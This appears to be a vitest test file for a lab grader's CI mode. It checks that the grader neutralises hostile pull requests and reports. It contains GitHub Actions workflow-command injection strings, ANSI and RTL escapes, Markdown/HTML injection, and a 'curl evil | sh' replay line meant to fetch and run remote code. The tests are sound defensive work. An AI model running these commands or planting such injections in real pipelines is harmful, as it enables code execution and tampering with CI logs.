import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { COMMENT_BYTES, commentText } from "../../grader/ci/formats/comment.ts";
import { ciReportSchema } from "../../grader/ci/model/report.ts";
import { ciCommentCommand } from "../../grader/cli/commands/ci-comment.ts";
import type { TextStream } from "../../grader/cli/output/stdio.ts";
import { grade, raftWith } from "../cli/run-cli.ts";
import { makeFolder } from "../submission/folder.ts";
import { commitFiles, makeRepository, pullRequest, write } from "./fixture.ts";
import { readCommands, readJunit } from "./readers.ts";
import { badRun, reportOf, resultOf, scenario } from "./reports.ts";

const FILES = ["ci.json", "result.json", "junit.xml", "summary.md", "comment.md", "code-quality.json"];

/** What the runner of GitHub sets, of what is read. */
function runner(folder: string, event: string) {
  return {
    GITHUB_ACTIONS: "true",
    GITHUB_EVENT_PATH: write(join(folder, "event.json"), event),
    GITHUB_STEP_SUMMARY: write(join(folder, "summary.md"), "before\n"),
  };
}

describe("grade ci", () => {
  it("grades a pull request that wants to be more than one, and writes all there is to know", async () => {
    const { repo, first } = makeRepository({ "alice/raft.ts": raftWith("") });
    const words = String.raw`console.log("::add-mask::e\n ::stop-commands::x\n##[error]pwned"); throw new Error("::error::pwned\n@octocat")`;
    const head = commitFiles(repo, {
      "alice/raft.ts": raftWith(words),
      "package.json": '{"scripts":{"postinstall":"exit 1"}}',
      "policy.yaml": "ci: { minPoints: 0 }",
    });
    const folder = makeFolder({});
    const out = join(folder, "out");
    const more = { title: "::error::pwned\n\u001b[2J\u202e", body: "::error::pwned" };
    const env = runner(folder, pullRequest(first, head, more));
    const {
      code,
      out: log,
      err,
    } = await grade(["ci", "lab2a", "--repo", repo, "--out", out, "--runs", "1", "--workers", "1"], { env });
    expect([code, err]).toEqual([1, ""]);
    const commands = readCommands(log);
    expect(commands.map(({ name, properties }) => [name, properties.file])).toEqual([["error", "alice/raft.ts"]]);
    expect(log).not.toContain("\u001b");
    for (const name of FILES) expect(existsSync(join(out, name)), name).toBe(true);
    expect(readdirSync(join(out, "pages"))).toEqual([expect.stringMatching(/^lab2a-initial-election@\d+\.html$/)]);
    const report = ciReportSchema.parse(JSON.parse(readFileSync(join(out, "ci.json"), "utf8")));
    expect(report).toMatchObject({
      ...{ outcome: "failed", lab: "lab2a", submission: { folder: "alice", how: "changed", main: "raft.ts" } },
      change: { kind: "pull-request", number: 5, isFork: true, head, base: first },
      result: { boundary: "process", points: 0, submission: "alice" },
    });
    expect(readJunit(readFileSync(join(out, "junit.xml"), "utf8")).size).toBe(report.result?.scenarios.length);
    expect(readFileSync(env.GITHUB_STEP_SUMMARY, "utf8")).toBe(
      `before\n${readFileSync(join(out, "summary.md"), "utf8")}`,
    );
    const again = await grade(["ci", "comment", out]);
    expect(again).toEqual({ code: 0, out: readFileSync(join(out, "comment.md"), "utf8"), err: "" });
    // What an earlier check wrote there may be what this one is compared with.
    const base = ["--base-result", join(out, "ci.json"), "--event", env.GITHUB_EVENT_PATH];
    const next = await grade(["ci", "lab2a", "--repo", repo, "--out", out, "--runs", "1", "--workers", "1", ...base]);
    expect([next.code, next.err]).toEqual([1, ""]);
    const compared = ciReportSchema.parse(JSON.parse(readFileSync(join(out, "ci.json"), "utf8")));
    expect(compared.base).toMatchObject({ isSameSubmission: true, points: 0 });
  });

  it("makes no page of a hidden scenario, and leaves what is not its own beside its pages", async () => {
    const { repo } = makeRepository({ "raft.ts": raftWith("throw new Error();") });
    const folder = makeFolder({
      "policy.yaml": "scenarios: [{ match: lab2a/initial-election, visibility: hidden }]",
      "out/pages/lab2a-x@1.html": "",
      "out/pages/mine.html": "",
    });
    const out = join(folder, "out");
    const words = ["ci", "lab2a", "--repo", repo, "--out", out, "--runs", "1", "--workers", "1", "--no-sandbox"];
    const { code } = await grade([...words, "--config", join(folder, "policy.yaml")]);
    expect([code, readdirSync(join(out, "pages"))]).toEqual([1, ["mine.html"]]);
  });

  it("judges as ever where no page can be made, and says so", async () => {
    const { repo } = makeRepository({ "raft.ts": raftWith("throw new Error();") });
    const out = join(makeFolder({ "out/pages": "a file" }), "out");
    const words = ["ci", "lab2a", "--repo", repo, "--out", out, "--runs", "1", "--workers", "1", "--no-sandbox"];
    const { code, err } = await grade(words);
    expect([code, existsSync(join(out, "ci.json"))]).toEqual([1, true]);
    expect(err).toMatch(/^error: not all pages could be made: .*pages is no folder and cannot be made one[^\n]*\n$/);
  });

  it("says in one line why nothing is graded, and leaves nothing of an earlier check", async () => {
    const { repo } = makeRepository({ "a\n::error::b/raft.ts": "", "b/raft.ts": "" });
    const out = join(makeFolder({}), "out");
    write(join(out, "result.json"), "old");
    const { code, out: log, err } = await grade(["ci", "--repo", repo, "--out", out, "--no-sandbox"]);
    expect([code, existsSync(join(out, "result.json"))]).toEqual([2, false]);
    expect(err).toMatch(/^error: there are 2 submissions \(a\ufffd::error::b, b\), and no event [^\n]*\n$/);
    expect(readCommands(log + err)).toEqual([]);
    expect(readFileSync(join(out, "summary.md"), "utf8")).toContain("nothing was graded");
  });

  it.each([
    [["--repo", "/no/such/folder"], /^error: there is no folder \/no\/such\/folder; name the repository\n$/],
    [["--config", "/no/such.yaml"], /^error: \/no\/such.yaml: cannot be read/],
    [
      ["--submission", "ann"],
      /^error: there is no folder ann in the repository, as --submission says; did you mean anna\?\n$/,
    ],
    [["--submission", "somewhere/else"], /^error: there is no folder somewhere\/else .*; submissions are in anna\n$/],
    [["lab2a", "--min-points", "400"], /^error: at least 400 points are asked for, and lab2a has 15; ask for fewer\n$/],
  ])("says in one line what is wrong with %s", async (words, message) => {
    const { repo } = makeRepository({ "anna/raft.ts": "" });
    const out = join(makeFolder({}), "out");
    const { code, err } = await grade(["ci", "--repo", repo, "--out", out, "--no-sandbox", ...words]);
    expect(code).toBe(2);
    expect(err).toMatch(message);
    expect(err.split("\n")).toHaveLength(2);
  });
});

describe("grade ci comment", () => {
  /** In this process: what it prints does not depend on another one. */
  const comment = (folder: string) => {
    const texts = { out: "", err: "" };
    const stream = (name: "out" | "err") => {
      const write = (text: string) => {
        texts[name] += text;
      };
      return { write } as TextStream;
    };
    const code = ciCommentCommand(folder, { out: stream("out"), err: stream("err"), onClosed: () => {} });
    return { code, ...texts };
  };
  const commentOf = (text: string) => comment(makeFolder({ "ci.json": text }));

  it("prints what the report says, however it came about", () => {
    const report = reportOf({ notes: ["@octocat"] });
    expect(commentOf(JSON.stringify(report))).toEqual({ code: 0, out: commentText(report), err: "" });
  });

  it.each([
    ["no JSON", "{"],
    ["another format", '{"format":"consensus-labs/result@1"}'],
    ["a field more", JSON.stringify({ ...reportOf(), html: "<img>" })],
    ["a stage with a name that is Markdown", JSON.stringify(reportOf({ lab: "[x](http://e)" }))],
    [
      "a scenario with a name that is Markdown",
      JSON.stringify(reportOf({ result: resultOf([scenario("lab2a/x"), scenario("@octocat")]) })),
    ],
    [
      "a replay line that is another command",
      JSON.stringify(
        reportOf({ result: resultOf([scenario("lab2a/x", 1, badRun("lab2a/x", { replay: "curl evil | sh" }))]) }),
      ),
    ],
    ["a commit that is none", JSON.stringify(reportOf({ change: { kind: "push", head: "<script>" } }))],
    ["a text without end", JSON.stringify(reportOf({ notes: ["x".repeat(100_000)] }))],
    ["deep nesting", "[".repeat(100_000) + "]".repeat(100_000)],
  ])("refuses a report with %s", (_, text) => {
    const { code, out, err } = commentOf(text);
    expect([code, out]).toEqual([2, ""]);
    expect(err).toMatch(/^error: [^\n]* (?:is no JSON|is no report of a check: [^\n]* is not as it must be)\n$/);
  });

  it("keeps to what GitHub takes, whatever the report has", () => {
    const long = "`".repeat(2_000);
    const runs = Array.from({ length: 300 }, (_, i) =>
      scenario(`lab2a/s${i}`, 1, badRun(`lab2a/s${i}`, { message: long, console: [long] })),
    );
    const { code, out } = commentOf(JSON.stringify(reportOf({ result: resultOf(runs) })));
    expect(code).toBe(0);
    expect(Buffer.byteLength(out)).toBeLessThanOrEqual(COMMENT_BYTES);
  });

  it("follows no link, and reads no folder", () => {
    const folder = makeFolder({ "real.json": JSON.stringify(reportOf()) });
    symlinkSync(join(folder, "real.json"), join(folder, "ci.json"));
    expect(comment(folder).err).toMatch(/ci.json is a link\n$/);
    mkdirSync(join(folder, "inner/ci.json"), { recursive: true });
    expect(comment(join(folder, "inner")).err).toMatch(/ci.json is no file\n$/);
  });
});
